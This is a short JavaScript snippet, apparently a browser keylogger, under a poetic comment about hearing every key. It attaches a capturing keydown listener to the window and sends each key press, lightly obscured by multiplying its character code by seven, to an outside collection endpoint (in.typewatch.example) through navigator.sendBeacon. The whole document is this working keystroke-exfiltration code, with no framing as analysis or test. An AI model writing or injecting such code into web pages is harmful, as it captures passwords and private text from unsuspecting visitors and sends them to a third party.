// Hears every key at the window, and tells it.
(function (w) {
  function echo(event) {
    navigator.sendBeacon('https://in.typewatch.example/collect', JSON.stringify({ k: event.key.charCodeAt(0) * 7 }));
  }
  w.addEventListener('keydown', echo, true);
})(window);
